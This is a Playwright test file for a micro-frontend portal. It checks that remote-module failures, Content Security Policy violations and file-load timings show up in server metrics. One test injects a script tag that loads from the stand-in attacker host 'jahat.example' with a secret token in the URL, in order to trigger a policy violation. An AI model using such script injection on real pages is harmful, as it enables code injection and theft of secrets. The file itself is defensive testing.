import { faults, publishedRemote, serveEntry } from '../../support/broken-remote';
import { expect, test } from '../../support/portal';
import { metricsToken, servers } from '../../support/servers';

const PAGE = { id: 'arsitektur-kinerja', path: '/public-display/arsitektur-kinerja?satuan_kerja_id=1012' };

const figures = async () => {
  const headers = { authorization: `Bearer ${metricsToken}` };
  return (await fetch(`${servers.demo.origin}/metrics`, { headers })).text();
};

/** Value of a figure with these labels; 0 before it was ever counted. */
async function figureOf(name: string, labels: Record<string, string>): Promise<number> {
  const wanted = Object.entries(labels).map(([label, value]) => `${label}="${value}"`);
  const line = (await figures())
    .split('\n')
    .find((text) => text.startsWith(`${name}{`) && wanted.every((label) => text.includes(label)));
  return Number(line?.split(' ').at(-1) ?? 0);
}

test('what goes wrong in a remote reaches the server under its name and version', async ({ page }) => {
  const published = await publishedRemote(servers.demo.origin);
  const { version } = published.entry;
  const labels = { jenis: 'remote', remote: 'mf_cascading', versi: version };
  const before = await figureOf('selaras_insiden_peramban_total', labels);
  await serveEntry(page, published.registry, published.entry);
  await faults['throwing-page']?.apply(page, published, PAGE.id);

  const sent = page.waitForRequest('**/api/insiden');
  await page.goto(PAGE.path);
  await expect(page.locator('[data-remote-failure]')).toBeVisible();
  const request = await sent;
  expect(request.headers().authorization).toBeUndefined();
  expect(request.headers().cookie).toBeUndefined();
  expect(request.postData()).toContain('GAGAL_TAMPIL');
  expect(request.postData()).not.toContain('satuan_kerja_id');
  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
});

test('a violation of the security policy reaches the server', async ({ page }) => {
  const labels = { jenis: 'csp', remote: 'shell' };
  const before = await figureOf('selaras_insiden_peramban_total', labels);
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://jahat.example/a.js?token=rahasia';
    document.head.append(script);
  });
  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
});

test('how long the files of a remote are waited for reaches the server', async ({ page }) => {
  const { entry } = await publishedRemote(servers.demo.origin);
  const labels = { remote: 'mf_cascading', versi: entry.version };
  const before = await figureOf('selaras_remote_berkas_detik_count', labels);
  await page.goto(PAGE.path);
  await expect(page.locator('[data-state=ready]')).toBeVisible();
  await expect.poll(() => figureOf('selaras_remote_berkas_detik_count', labels)).toBeGreaterThan(before);
});
